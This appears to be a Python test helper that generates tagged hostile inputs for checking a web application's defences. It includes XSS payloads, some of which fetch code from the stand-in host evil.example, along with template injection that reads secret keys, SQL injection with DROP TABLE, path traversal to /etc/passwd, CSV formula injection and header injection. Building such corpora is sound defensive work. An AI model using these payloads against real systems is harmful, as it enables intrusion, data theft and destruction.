"""Strings that have opened other programs: scripts, templates, headers, databases, paths, odd characters."""

from itertools import product

#: What a script would do if it ran; each attack carries a mark, so that it can be found again.
ACTS = ("alert('{mark}')", "window.ran='{mark}'", "import('//evil.example/{mark}')")
CARRIERS = (
    "<script>{act}</script>",
    "<ScRiPt >{act}</sCrIpT>",
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<body onload={act}>",
    "<details open ontoggle={act}>",
    '<iframe src="javascript:{act}"></iframe>',
    '<iframe srcdoc="<script>{act}</script>"></iframe>',
    '<a href="javascript:{act}">x</a>',
    '<form action="javascript:{act}"><button>x</button></form>',
    "<input autofocus onfocus={act}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={act}>",
    '<object data="data:text/html,<script>{act}</script>"></object>',
    '<link rel=stylesheet href="//evil.example/{mark}.css">',
    '<meta http-equiv=refresh content="0;url=javascript:{act}">',
    '<base href="//evil.example/{mark}/">',
    "<style>@import '//evil.example/{mark}.css';</style>",
    "<template><script>{act}</script></template>",
    '<xmp><p title="</xmp><img src=x onerror={act}>">',
    '<noscript><p title="</noscript><img src=x onerror={act}>">',
    '<b hx-on:click="{act}" hx-get="//evil.example/{mark}" hx-trigger="load">x</b>',
    '<div data-show-if="x" data-autosave-url="//evil.example/{mark}">x</div>',
)
#: Ways out of the place in which an answer is drawn.
BREAKS = ("", "</textarea>", '">', "'>", "-->", "</title>", "</script>", "]]>", "\x00")
OTHERS = (
    "{{{{7*7}}}}{mark}",
    "{{% debug %}}{mark}",
    "{{{{ settings.SECRET_KEY }}}}{mark}",
    "${{7*7}}{mark}",
    "#{{7*7}}{mark}",
    "<%= 7*7 %>{mark}",
    "{{% include '/etc/passwd' %}}{mark}",
    "%0d%0aX-Evil: {mark}",
    "\r\nX-Evil: {mark}\r\n\r\n<h1>",
    "javascript:alert('{mark}')",
    "data:text/html,<script>alert('{mark}')</script>",
    "vbscript:msgbox('{mark}')",
    "' OR '1'='1' --{mark}",
    "'); DROP TABLE applications_answer; --{mark}",
    "\\'; SELECT pg_sleep(9); --{mark}",
    "../../../../etc/passwd{mark}",
    "..\\..\\windows\\win.ini{mark}",
    "file:///etc/passwd#{mark}",
    "=cmd|' /C calc'!A0{mark}",
    "@SUM(1+1)*cmd{mark}",
    "+1+1{mark}",
    "-2+3+cmd{mark}",
    "\u202e{mark}\u202d",
    "\u2028alert('{mark}')\u2029",
    "\ufeff{mark}",
    "\ud800{mark}",
    "\udfff{mark}\ud800",
    "\x00{mark}\x00",
    "\x1b[31m{mark}",
    "\x7f{mark}\x08",
    "A\u0300\u0301\u0302\u0303" * 40 + "{mark}",
    "\U000e0001{mark}",
    "\uffff{mark}\ufffe",
    "9" * 400 + "{mark}",
    "1e999999{mark}",
    "-0{mark}",
    "NaN{mark}",
    "Infinity{mark}",
    "0x41{mark}",
    "\u0661\u0662{mark}",
    "[" * 500 + "{mark}",
    "{{" * 200 + "{mark}",
    "a" * 20000 + "{mark}",
    "\r" * 300 + "{mark}",
    "\n" * 300 + "{mark}",
    "http://[::1]/{mark}",
    "http://[{mark}",
    "https://user:pass@evil.example/{mark}",
    "//evil.example/{mark}",
    "https://example.org/\" onmouseover=\"alert('{mark}')",
    "https://example.org/<script>alert('{mark}')</script>",
)


def attacks(mark: str) -> list[str]:
    """Return every attack, each carrying ``mark``."""
    scripts = [
        brk + carrier.replace("{act}", act).replace("{mark}", mark)
        for carrier, act in product(CARRIERS, ACTS)
        for brk in BREAKS
    ]
    others = [other.replace("{{", "{").replace("}}", "}").replace("{mark}", mark) for other in OTHERS]
    return list(dict.fromkeys(scripts + others))


def is_markup(attack: str) -> bool:
    """Say whether an attack would act if it stood in a page as it is."""
    return "<" in attack
